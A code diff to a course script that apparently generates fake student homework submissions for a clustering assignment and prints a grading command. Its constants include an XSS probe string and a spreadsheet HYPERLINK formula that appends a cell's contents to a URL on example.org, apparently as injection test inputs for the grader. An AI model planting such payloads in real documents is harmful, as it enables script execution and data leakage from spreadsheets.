@@ -26,7 +26,7 @@ from course_utils import metrics
 from course_utils.clustering import algorithms
 from course_utils.homework import submission
 
-DEADLINE = datetime(2026, 11, 30, 12, tzinfo=UTC)
+DEADLINE = datetime(2025, 11, 30, 12, tzinfo=UTC)
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 REPRESENTATIONS = ("raw", "colour", "hog", "lbp", "VGG19:fc2", "ResNet50:avg_pool")
@@ -90,7 +90,8 @@ def runs(image_set, student_id, right=0.6, n_seeds=2, k=None):
 def hand_in(path, image_set, student_id, name, found=None, functions=None, **more):
     """Write a submission as `submit` does; found: (results, labels), of `runs`."""
     functions = own_functions() if functions is None else functions
-    values = submission.exercise_values(student_id, **functions)
+    pairs = submission.probes(student_id)  # here: a process for each would be slow
+    values = {name: [f(*pair) for pair in pairs] for name, f in functions.items()}
     answers = dict.fromkeys(submission.QUESTIONS, f"{name} thinks so.")
     return submission.submit(
         path,
@@ -225,7 +226,8 @@ def main():
     for file, what in make_class(folder, datasets.load("stamps")).items():
         print(f"{file:40} {what}")
     command = f"python -m course_utils grade {shlex.quote(str(folder))} --out graded"
-    print(f"\n{command} --deadline {DEADLINE.isoformat(timespec='minutes')}")
+    deadline = DEADLINE.isoformat(timespec="minutes")
+    print(f"\n{command} --deadline {deadline} --times files")
 
 
 if __name__ == "__main__":
